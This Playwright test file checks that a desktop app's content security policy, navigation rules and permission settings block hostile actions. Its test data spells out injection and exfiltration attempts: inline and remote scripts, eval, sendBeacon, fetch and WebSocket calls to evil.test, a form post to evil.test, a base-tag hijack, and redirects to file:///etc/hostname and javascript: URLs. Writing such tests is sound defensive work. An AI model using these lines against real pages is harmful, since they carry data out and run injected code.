import { expect, test } from '@playwright/test'
import { aFreshFolder } from '../support/desktop/fresh-folder.ts'
import { type Desktop, launchDesktop } from '../support/desktop/launch.ts'
import { TRAVERSALS } from '../support/desktop/traversals.ts'

let desktop: Desktop

test.beforeAll(async () => {
  desktop = await launchDesktop({ userData: aFreshFolder() })
})

test.afterAll(() => desktop.close())

/** Longest wait for a report that does not come. Unit: milliseconds. Source: judgement. */
const REPORT_LIMIT = 10_000

/** Whether the browser reports `directive` as broken once `attempt` has run in the page's own turn. */
async function isBlocked(attempt: string, directive: string): Promise<boolean> {
  return desktop.page.evaluate(`new Promise((settle) => {
    document.addEventListener('securitypolicyviolation', (event) => {
      if (event.effectiveDirective === ${JSON.stringify(directive)}) settle(true)
    })
    setTimeout(() => settle(false), ${REPORT_LIMIT})
    setTimeout(() => {
      try { ${attempt} } catch {}
    })
  })`)
}

test('sends the policy with the page', async () => {
  const headers = await desktop.page.evaluate(async () => {
    const reply = await fetch(location.href)
    return Object.fromEntries(reply.headers)
  })
  expect(headers['content-security-policy']).toContain("default-src 'none'")
  expect(headers['x-content-type-options']).toBe('nosniff')
  expect(headers['referrer-policy']).toBe('no-referrer')
})

const BLOCKED = {
  'an inline script': [
    `const script = document.createElement('script')
     script.textContent = 'window.ranInline = true'
     document.body.append(script)`,
    'script-src-elem',
  ],
  'an inline handler': [
    `const image = document.createElement('img')
     image.setAttribute('onerror', 'window.ranInline = true')
     image.src = 'data:,'
     document.body.append(image)`,
    'script-src-attr',
  ],
  eval: [`(0, eval)('window.ranInline = true')`, 'script-src'],
  'a script from a data address': [
    `const script = document.createElement('script')
     script.src = 'data:text/javascript,window.ranInline=true'
     document.body.append(script)`,
    'script-src-elem',
  ],
  'a remote script': [
    `const script = document.createElement('script')
     script.src = 'https://evil.test/x.js'
     document.body.append(script)`,
    'script-src-elem',
  ],
  'a remote image': [`new Image().src = 'https://evil.test/x.png'`, 'img-src'],
  'a remote fetch': [`fetch('https://evil.test/x').catch(() => {})`, 'connect-src'],
  'a beacon': [`navigator.sendBeacon('https://evil.test/x', 'text')`, 'connect-src'],
  'a web socket': [`new WebSocket('wss://evil.test/x')`, 'connect-src'],
  'a worker from a blob': [
    `new Worker(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' })))`,
    'worker-src',
  ],
  'a remote frame': [
    `const frame = document.createElement('iframe')
     frame.src = 'https://evil.test/'
     document.body.append(frame)`,
    'frame-src',
  ],
  'a form sent elsewhere': [
    `const form = document.createElement('form')
     form.action = 'https://evil.test/'
     form.method = 'post'
     document.body.append(form)
     form.submit()`,
    'form-action',
  ],
  'another base address': [
    `const base = document.createElement('base')
     base.href = 'https://evil.test/'
     document.head.append(base)`,
    'base-uri',
  ],
} as const

for (const [label, [attempt, directive]] of Object.entries(BLOCKED)) {
  test(`the policy blocks ${label}`, async () => {
    expect(await isBlocked(attempt, directive)).toBe(true)
    expect(await desktop.page.evaluate('window.ranInline')).toBeUndefined()
  })
}

test('nothing outside the built files can be read', async () => {
  const start = await desktop.page.evaluate(() => fetch('./').then((reply) => reply.text()))
  expect(start).toContain('<title>')
  const answers = await desktop.page.evaluate(
    async ([paths, origin]) => {
      const read = async (path: string) => {
        try {
          const reply = await fetch(path.startsWith('/') ? `${origin}${path}` : path)
          return { path, status: reply.status, text: await reply.text() }
        } catch {
          return { path, status: 0, text: '' }
        }
      }
      return Promise.all(paths.map(read))
    },
    [TRAVERSALS, desktop.origin] as const,
  )
  const outside = answers.filter(({ status, text }) => status === 200 && text !== start)
  expect(outside).toEqual([])
  expect(answers.filter(({ text }) => text !== '' && text !== start)).toEqual([])
})

const ELSEWHERE = [
  'https://evil.test/',
  'https://cairn@evil.test/',
  'https://cairn.evil.test/',
  'http://127.0.0.1:9/',
  'app://other/',
  'app://cairn@evil.test/',
  'file:///etc/hostname',
  'data:text/html,elsewhere',
  'javascript:document.title="elsewhere"',
  'mailto:someone@evil.test',
  './index.html?other=1',
  './assets/',
]

for (const address of ELSEWHERE) {
  test(`the page does not go to ${address}`, async () => {
    const before = desktop.page.url()
    await desktop.page.evaluate((to) => {
      ;(window as unknown as Record<string, unknown>).stayed = true
      setTimeout(() => {
        location.href = to
      })
    }, address)
    await settle()
    expect(desktop.page.url()).toBe(before)
    expect(await desktop.page.evaluate('window.stayed')).toBe(true)
    expect(await desktop.page.title()).not.toBe('elsewhere')
  })

  test(`no window opens for ${address}`, async () => {
    await desktop.page.evaluate((to) => {
      window.open(to)
      const link = document.createElement('a')
      link.href = to
      link.target = '_blank'
      document.body.append(link)
      link.click()
      link.remove()
    }, address)
    await expect.poll(() => desktop.page.context().pages()).toHaveLength(1)
    expect(await desktop.page.evaluate('typeof window.cairn')).toBe('object')
  })
}

test('the page may load itself again', async () => {
  const before = desktop.page.url()
  await Promise.all([
    desktop.page.waitForEvent('load'),
    desktop.page.evaluate(() => setTimeout(() => location.reload())),
  ])
  expect(desktop.page.url()).toBe(before)
  expect(await desktop.page.evaluate('typeof window.cairn')).toBe('object')
})

const PERMISSIONS = [
  'geolocation',
  'notifications',
  'camera',
  'microphone',
  'midi',
  'clipboard-read',
  'persistent-storage',
  'idle-detection',
  'window-management',
  'local-fonts',
  'background-sync',
]

test('every permission is denied', async () => {
  const states = await desktop.page.evaluate(
    (names) =>
      Promise.all(
        names.map(async (name) => {
          const status = await navigator.permissions.query({ name: name as PermissionName })
          return [name, status.state]
        }),
      ),
    PERMISSIONS,
  )
  expect(states).toEqual(PERMISSIONS.map((name) => [name, 'denied']))
})

test('asking for a place, a device or a notification fails', async () => {
  const answers = await desktop.page.evaluate(async () => {
    const refusal = (error: unknown) => (error as Error).name
    return {
      place: await new Promise((done) =>
        navigator.geolocation.getCurrentPosition(
          () => done('given'),
          (error) => done(error.code === error.PERMISSION_DENIED ? 'denied' : error.code),
        ),
      ),
      notification: await Notification.requestPermission(),
      camera: await navigator.mediaDevices
        .getUserMedia({ video: true })
        .then(() => 'given', refusal),
    }
  })
  expect(answers.place).toBe('denied')
  expect(answers.notification).toBe('denied')
  expect(['NotAllowedError', 'NotFoundError']).toContain(answers.camera)
})

test('no request but for own files has left the app', async () => {
  const { standIn } = desktop
  // biome-ignore lint/suspicious/noSkippedTests: the reason is given to the runner, which prints it
  test.skip(standIn === null, 'only the stand-in keeps a list')
  expect(await standIn?.requests()).toMatchObject({ leaked: [] })
})

/** Lets what was started come to its end: two turns of the page, and what it asked the host. */
async function settle(): Promise<void> {
  await desktop.page.evaluate(
    () => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 200))),
  )
}
